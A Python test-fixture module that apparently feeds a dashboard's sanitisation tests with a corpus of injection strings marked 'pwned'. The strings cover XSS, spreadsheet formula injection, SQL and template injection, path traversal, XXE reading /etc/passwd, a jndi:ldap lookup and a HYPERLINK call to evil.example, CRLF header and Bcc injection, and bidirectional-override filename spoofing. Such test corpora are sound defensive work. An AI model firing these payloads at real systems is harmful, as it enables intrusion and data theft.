"""Texts that try to be something else: markup, formulas, paths, queries, templates, headers, files of other kinds.

Each holds the word ``pwned``, so that what became of it is found again; nothing of the dashboard is imported.
"""

from __future__ import annotations

from collections.abc import Mapping

CORPUS: Mapping[str, str] = {
    "script": "<script>window.pwned=1</script>",
    "image": '"><img src=x onerror="window.pwned=1">',
    "svg": "'><svg/onload=window.pwned=1>",
    "attribute": "x' onmouseover='window.pwned=1' y=\"",
    "data block": '</script><script>window.pwned=1</script> "@type": "Thing" pwned',
    "comment": "--><!--#exec cmd='pwned'--><![CDATA[pwned]]>",
    "entity": "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;b&#62;",
    "link of Plotly": "<a href='javascript:window.pwned=1'>pwned</a><b>bold</b>",
    "formula": "=cmd|'/c pwned'!A1",
    "plus": "+1+pwned",
    "minus": "-1+pwned",
    "at": "@SUM(pwned)",
    "hyperlink": '=HYPERLINK("https://evil.example/?pwned";"pwned")',
    "path": "../../../../etc/pwned",
    "windows path": "..\\..\\pwned",
    "query": "pwned'); DROP TABLE change; --",
    "union": "pwned' UNION SELECT password FROM reviewer --",
    "Jinja": "{{ 7*7 }} {% raw %} {{ config.items() }} pwned",
    "Dash": "{%scripts%} {%config%} pwned",
    "format": "{0.__class__} {place} %s %(x)s %n pwned",
    "Typst": '#read("/etc/passwd") #panic("pwned") $x^2$ @ref <pwned> \\ `raw`',
    "header": "pwned\\r\\nX-Evil: 1 %0d%0aX-Evil: 1",
    "XML": "]]><!DOCTYPE x [<!ENTITY pwned SYSTEM 'file:///etc/passwd'>]>&pwned;",
    "XPath": "' or '1'='1 pwned",
    "JSON": 'pwned", "title": "other", "x": {"$gt": ""}, "__proto__": {"pwned": 1}, "y": "',
    "Markdown": "[pwned](javascript:window.pwned=1) ![pwned](https://evil.example/pwned.png)",
    "log": "pwned ${jndi:ldap://evil.example/pwned} \\x1b[31m",
    "direction": "pwned \N{LATIN SMALL LETTER A WITH ACUTE}\N{ZERO WIDTH JOINER}\N{COMBINING ACUTE ACCENT}",
}
"""What it tries to be → the text, of signs that the forms take."""

LINES: Mapping[str, str] = {
    "header": "pwned\r\nX-Evil: 1\r\nBcc: evil@example.org",
    "escape": "pwned\x1b[31m\x00\x07",
    "override": "pwned\u202e\u2066gpj.exe",
}
"""What no field takes as it is: more lines, signs that cannot be seen, signs that turn the direction."""
